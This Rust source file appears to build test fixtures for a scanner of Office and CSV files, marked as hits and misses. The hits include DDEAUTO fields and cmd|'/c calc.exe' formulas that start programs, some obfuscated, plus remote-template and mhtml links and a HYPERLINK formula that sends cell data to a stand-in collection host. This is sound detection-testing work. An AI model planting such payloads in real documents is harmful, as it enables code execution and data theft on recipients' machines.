//! Fixtures of documents that name something outside of themselves: fields, relationships, DDE links, formulas of text
//! tables. Every host is one that cannot exist; the commands are those of the textbooks.

use crate::build::{compound, zip};
use crate::fixtures::Fixture;

const WORD: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const EXCEL: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const STRICT: &str = "http://purl.oclc.org/ooxml/officeDocument/relationships";

/// A package of a main part and others.
pub(crate) fn package(kind: &str, main: &str, parts: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let types = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/{main}\" ContentType=\"{kind}\"/></Types>"
    );
    let rels = relationships(&[(&format!("{RELATIONS}/officeDocument"), main, false)]);
    let mut all: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", &rels),
    ];
    all.extend(parts.iter().map(|(name, data)| (*name, data.as_slice())));
    zip(&all)
}

/// A relationships part: type, target, and whether that is external.
pub(crate) fn relationships(list: &[(&str, &str, bool)]) -> Vec<u8> {
    let mut out = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">".to_owned();
    for (number, (kind, target, external)) in list.iter().enumerate() {
        let mode = if *external {
            " TargetMode=\"External\""
        } else {
            ""
        };
        out.push_str(&format!(
            "<Relationship Id=\"rId{number}\" Type=\"{kind}\" Target=\"{target}\"{mode}/>"
        ));
    }
    out.push_str("</Relationships>");
    out.into_bytes()
}

/// A Word document with this in its body, and further parts.
pub(crate) fn word(body: &str, parts: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let document = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{body}</w:body></w:document>"
    );
    let mut all = vec![("word/document.xml", document.into_bytes())];
    all.extend(parts.iter().cloned());
    package(WORD, "word/document.xml", &all)
}

/// A Word document whose settings have one relationship.
fn with_template(rels: Vec<u8>) -> Vec<u8> {
    let settings = "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"rId0\"/></w:settings>";
    let parts = [
        ("word/settings.xml", settings.as_bytes().to_vec()),
        ("word/_rels/settings.xml.rels", rels),
    ];
    word(&paragraph("Report"), &parts)
}

/// A Word document with a chart whose table lies elsewhere.
fn with_chart(table: &str) -> Vec<u8> {
    let chart = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><c:chart/><c:externalData r:id=\"rId0\"/></c:chartSpace>";
    let kind = format!("{RELATIONS}/oleObject");
    let parts = [
        (
            "word/_rels/document.xml.rels",
            relationships(&[(&format!("{RELATIONS}/chart"), "charts/chart1.xml", false)]),
        ),
        ("word/charts/chart1.xml", chart.as_bytes().to_vec()),
        (
            "word/charts/_rels/chart1.xml.rels",
            relationships(&[(&kind, table, true)]),
        ),
    ];
    word(&paragraph("Sales"), &parts)
}

/// A Word document whose main part has external relationships of transitional types.
fn with_links(list: &[(&str, &str)]) -> Vec<u8> {
    let kinds: Vec<String> = list
        .iter()
        .map(|(kind, _)| format!("{RELATIONS}/{kind}"))
        .collect();
    let list: Vec<(&str, &str, bool)> = kinds
        .iter()
        .zip(list)
        .map(|(kind, (_, target))| (kind.as_str(), *target, true))
        .collect();
    let rels = relationships(&list);
    word(
        &paragraph("Report"),
        &[("word/_rels/document.xml.rels", rels)],
    )
}

pub(crate) fn paragraph(text: &str) -> String {
    format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
}

/// A field whose code is split into runs.
fn field(code: &[&str], result: &str) -> String {
    let runs: String = code
        .iter()
        .map(|piece| {
            format!("<w:r><w:instrText xml:space=\"preserve\">{piece}</w:instrText></w:r>")
        })
        .collect();
    format!(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{runs}<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>\
         <w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    )
}

/// A connection of a workbook to a page, fetched on opening or by hand.
fn connection(on_load: &str) -> (&'static str, Vec<u8>) {
    let xml = format!(
        "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
         <connection id=\"1\" name=\"Rates\" type=\"4\" refreshedVersion=\"6\" refreshOnLoad=\"{on_load}\">\
         <webPr sourceData=\"1\" url=\"https://data.example.invalid/rates.htm\"/></connection></connections>"
    );
    ("xl/connections.xml", xml.into_bytes())
}

/// A workbook with one sheet of this content, and further parts.
fn workbook(cells: &str, parts: &[(&str, Vec<u8>)]) -> Vec<u8> {
    const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let book = format!(
        "<workbook xmlns=\"{MAIN}\" xmlns:r=\"{RELATIONS}\"><sheets><sheet name=\"A\" sheetId=\"1\" r:id=\"rId0\"/></sheets></workbook>"
    );
    let sheet = format!(
        "<worksheet xmlns=\"{MAIN}\"><sheetData><row r=\"1\">{cells}</row></sheetData></worksheet>"
    );
    let rels = relationships(&[(
        &format!("{RELATIONS}/worksheet"),
        "worksheets/sheet1.xml",
        false,
    )]);
    let mut all = vec![
        ("xl/workbook.xml", book.into_bytes()),
        ("xl/_rels/workbook.xml.rels", rels),
        ("xl/worksheets/sheet1.xml", sheet.into_bytes()),
    ];
    all.extend(parts.iter().cloned());
    package(EXCEL, "xl/workbook.xml", &all)
}

/// A part of a workbook with a DDE link.
fn dde_link(service: &str, topic: &str) -> Vec<u8> {
    format!(
        "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService='{service}' ddeTopic='{topic}'>\
         <ddeItems><ddeItem name=\"A1\" advise=\"1\"/></ddeItems></ddeLink></externalLink>"
    )
    .into_bytes()
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A binary Word document ([MS-DOC]): a FIB, a text in one piece of UTF-16, and the attached template's name.
fn doc(text: &str, template: &str) -> Vec<u8> {
    let mut document = vec![0; 2048];
    document[..4].copy_from_slice(&[0xec, 0xa5, 0xc1, 0]);
    document[32] = 14;
    document[62] = 22;
    document[152] = 93;
    let mut table = vec![0xff, 0xff, 2, 0, 0, 0, 0, 0];
    table.extend_from_slice(&u16::try_from(template.len()).unwrap().to_le_bytes());
    table.extend(utf16(template));
    let assoc = table.len();
    table.extend_from_slice(&[2, 16, 0, 0, 0, 0, 0, 0, 0]);
    table.extend_from_slice(&u32::try_from(text.len()).unwrap().to_le_bytes());
    table.extend_from_slice(&[0, 0]);
    table.extend_from_slice(&2048u32.to_le_bytes());
    table.extend_from_slice(&[0, 0]);
    for (place, fc, lcb) in [(32, 0, assoc), (33, assoc, table.len() - assoc)] {
        let at = 154 + place * 8;
        document[at..at + 4].copy_from_slice(&u32::try_from(fc).unwrap().to_le_bytes());
        document[at + 4..at + 8].copy_from_slice(&u32::try_from(lcb).unwrap().to_le_bytes());
    }
    document.extend(utf16(text));
    document.resize(8192, 0);
    table.resize(4096, 0);
    compound(&[
        ("WordDocument".to_owned(), document),
        ("0Table".to_owned(), table),
    ])
}

/// A workbook of Excel 2003 with one formula.
fn excel_2003(formula: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?>\n<?mso-application progid=\"Excel.Sheet\"?>\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" \
         xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet ss:Name=\"A\"><Table><Row><Cell ss:Formula=\"{formula}\"><Data ss:Type=\"Number\">1</Data>\
         </Cell></Row></Table></Worksheet></Workbook>"
    )
    .into_bytes()
}

/// All of them.
pub(crate) fn fixtures() -> Vec<Fixture> {
    let mut all = dde();
    all.extend(templates());
    all.extend(objects());
    all.extend(tables());
    all.extend(queries());
    all
}

fn queries() -> Vec<Fixture> {
    vec![
        (
            "findings/web-query/hit.workbook.xlsx",
            workbook("<c r=\"A1\"><v>1</v></c>", &[connection("1")]),
        ),
        (
            "findings/web-query/miss.xlsx",
            workbook("<c r=\"A1\"><v>1</v></c>", &[connection("0")]),
        ),
    ]
}

fn dde() -> Vec<Fixture> {
    let pieces = [
        "DDEA",
        "UTO c:\\\\windows\\\\system32\\\\",
        "cmd.exe \"/k calc",
        ".exe\"",
    ];
    let nested = "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDEAUTO </w:instrText></w:r>\
        <w:fldSimple w:instr=' QUOTE 99 109 100 '/><w:r><w:instrText> \"/c calc\"</w:instrText></w:r></w:p>";
    let ordinary = [
        field(&[" TOC \\o \"1-3\" \\h \\z \\u "], "Contents"),
        field(
            &[" HYPERLINK \"https://www.example.co.jp/?a=1&amp;b=2\" "],
            "our page",
        ),
        field(
            &[" INCLUDEPICTURE  \"C:\\\\Pictures\\\\logo.png\" \\* MERGEFORMAT "],
            "",
        ),
        "<w:fldSimple w:instr=\" PAGE \\* MERGEFORMAT \"><w:r><w:t>1</w:t></w:r></w:fldSimple>"
            .to_owned(),
        paragraph("DDEAUTO c:\\windows\\system32\\cmd.exe is what this training is about."),
    ];
    let command = "Report \u{13}DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"\u{14}Error\u{15}.\r";
    vec![
        (
            "findings/dde-link/hit.docx",
            word(
                &field(
                    &[
                        " DDE Excel \"C:\\\\Figures\\\\2026.xls\" ",
                        "\"Sheet1!R1C1\" ",
                    ],
                    "42",
                ),
                &[],
            ),
        ),
        (
            "findings/dde-link/hit.starts-program.docx",
            word(&field(&pieces, "!"), &[]),
        ),
        (
            "findings/dde-link/hit-header.starts-program.docx",
            word(
                &paragraph("Report"),
                &[(
                    "word/header1.xml",
                    format!("<w:hdr xmlns:w='x'>{nested}</w:hdr>").into_bytes(),
                )],
            ),
        ),
        (
            "findings/dde-link/hit.starts-program.doc",
            doc(command, "Normal.dotm"),
        ),
        (
            "findings/dde-link/hit.starts-program.xlsx",
            workbook(
                "<c r=\"A1\"><f>[1]!'A1'</f></c>",
                &[(
                    "xl/externalLinks/externalLink1.xml",
                    dde_link("cmd", "/c calc.exe"),
                )],
            ),
        ),
        (
            "findings/dde-link/hit-cell.starts-program.xlsx",
            workbook("<c r=\"A1\"><f>cmd&#x7C;'/c calc.exe'!A1</f></c>", &[]),
        ),
        (
            "findings/dde-link/hit.starts-program.xml",
            excel_2003("=cmd|'/c calc.exe'!A1"),
        ),
        ("findings/dde-link/miss.docx", word(&ordinary.concat(), &[])),
        (
            "findings/dde-link/miss.doc",
            doc(
                "\u{13}TOC \\o\u{14}Contents\u{15} \u{13}PAGE\u{15} DDE is gone.\r",
                "Normal.dotm",
            ),
        ),
        (
            "findings/dde-link/miss.xlsx",
            workbook(
                "<c r=\"A1\"><f>IF(B1=\"a|b\",SUM(C1:C9),HYPERLINK(\"https://www.example.co.jp\"))</f></c>",
                &[],
            ),
        ),
        (
            "findings/dde-link/miss.xml",
            excel_2003("=RC[1]&amp;&quot; | &quot;"),
        ),
    ]
}

fn templates() -> Vec<Fixture> {
    let template = |kind: &str, target: &str| {
        with_template(relationships(&[(
            &format!("{kind}/attachedTemplate"),
            target,
            true,
        )]))
    };
    let wide = format!(
        "<?xml version='1.0' encoding='UTF-16'?><p:Relationships xmlns:p='http://schemas.openxmlformats.org/package/2006/relationships'>\
         <p:Relationship TargetMode='External' Target='\\\\files.example.co.jp\\t\\a.dotm' Type='{STRICT}/attachedTemplate' Id='rId0'/></p:Relationships>"
    );
    let wide = [vec![0xff, 0xfe], utf16(&wide)].concat();
    vec![
        (
            "findings/remote-template/hit.docx",
            template(RELATIONS, "http://templates.example.invalid/a.dotm"),
        ),
        (
            "findings/remote-template/hit-escaped.docx",
            template(
                STRICT,
                " h&#x74;tp%3A//templates.example.invalid/a.dotm?a=1&amp;b ",
            ),
        ),
        (
            "findings/remote-template/hit-utf16.docx",
            with_template(wide),
        ),
        (
            "findings/remote-template/hit.doc",
            doc("Report.\r", "\\\\198.51.100.7\\t\\a.dot"),
        ),
        (
            "findings/remote-template/miss.docx",
            template(
                RELATIONS,
                "file:///C:\\Program%20Files\\Templates\\Report.dotx",
            ),
        ),
        (
            "findings/remote-template/miss.doc",
            doc("Report.\r", "C:\\Templates\\Report.dot"),
        ),
    ]
}

fn objects() -> Vec<Fixture> {
    let linked = relationships(&[(
        &format!("{RELATIONS}/externalLinkPath"),
        "file:///\\\\files.example.co.jp\\budget\\2026.xlsx",
        true,
    )]);
    let include = field(
        &[
            " INCLUDETEXT ",
            "\"http://docs.example.invalid/",
            "a.docx\" \\c HTML ",
        ],
        "",
    );
    vec![
        (
            "findings/external-object-link/hit.docx",
            with_links(&[("oleObject", "http://docs.example.invalid/a.doc")]),
        ),
        (
            "findings/external-object-link/hit-moniker.docx",
            with_links(&[(
                "oleObject",
                "mhtml:http://docs.example.invalid/a.html!x-usc:http://docs.example.invalid/a.html",
            )]),
        ),
        (
            "findings/external-object-link/hit-frame.docx",
            with_links(&[("frame", "file://198.51.100.7/docs/a.docx")]),
        ),
        (
            "findings/external-object-link/hit-field.docx",
            word(&include, &[]),
        ),
        (
            "findings/external-object-link/hit.linked-media.docx",
            with_links(&[("image", "file://files.example.co.jp/pictures/logo.png")]),
        ),
        (
            "findings/external-object-link/hit.clicked-handler.docx",
            with_links(&[(
                "hyperlink",
                "search-ms:query=report&crumb=location:\\\\198.51.100.7\\docs",
            )]),
        ),
        (
            "findings/external-object-link/miss.docx",
            with_links(&[
                ("hyperlink", "https://www.example.co.jp/"),
                ("hyperlink", "javascript:void(0);"),
                ("hyperlink", "JavaScript://"),
                ("hyperlink", "onenote:///C:/notes.one"),
                ("hyperlink", "file:///\\\\files.example.co.jp\\docs"),
                ("image", "https://www.example.co.jp/logo.png"),
                ("image", "file:///\\\\FILES01\\pictures\\logo.png"),
                (
                    "oleObject",
                    "file:///C:\\Figures\\2026.xlsx!Sheet1!R1C1:R9C3",
                ),
                (
                    "mailMergeSource",
                    "file:///\\\\files.example.co.jp\\addresses.xlsx",
                ),
            ]),
        ),
        (
            "findings/external-object-link/miss-chart.docx",
            with_chart("file:///\\\\fs1\\sales\\2026.xlsx"),
        ),
        (
            "findings/external-object-link/hit-chart.docx",
            with_chart("mhtml:http://192.0.2.8/a.html!x-usc:http://192.0.2.8/a.html"),
        ),
        (
            "findings/external-object-link/miss.xlsx",
            workbook(
                "<c r=\"A1\"><f>[1]A!A1</f></c>",
                &[("xl/externalLinks/_rels/externalLink1.xml.rels", linked)],
            ),
        ),
    ]
}

fn tables() -> Vec<Fixture> {
    let hit = "name,amount\r\n\"Yamada, Taro\",\" \t=cmd|'/c calc.exe'!A0\"\r\nSuzuki,5\r\n";
    let sent = "name;link\r\nYamada;=HYPERLINK(\"http://collect.example.invalid/?x=\"&A1&B1;\"Error: click here\")\r\nSuzuki;ok\r\n";
    let miss = "name,amount,phone,total\r\n\"Yamada, Taro\",-5,+81-3-1234-5678,=SUM(B2:B9)\r\nSuzuki,-,@suzuki,\"=HYPERLINK(\"\"https://www.example.co.jp/\"\")\"\r\nSato,+3.5,- no phone | see list!,=B2+B3\r\n";
    let wide = [vec![0xff, 0xfe], utf16(&hit.replace(',', "\t"))].concat();
    vec![
        (
            "findings/csv-formula-injection/hit.csv",
            hit.as_bytes().to_vec(),
        ),
        (
            "findings/csv-formula-injection/hit-sent.csv",
            sent.as_bytes().to_vec(),
        ),
        ("findings/csv-formula-injection/hit-utf16.tsv", wide),
        (
            "findings/csv-formula-injection/hit-line.csv",
            b"=cmd|'/c calc'!A0".to_vec(),
        ),
        (
            "findings/csv-formula-injection/miss.csv",
            miss.as_bytes().to_vec(),
        ),
    ]
}
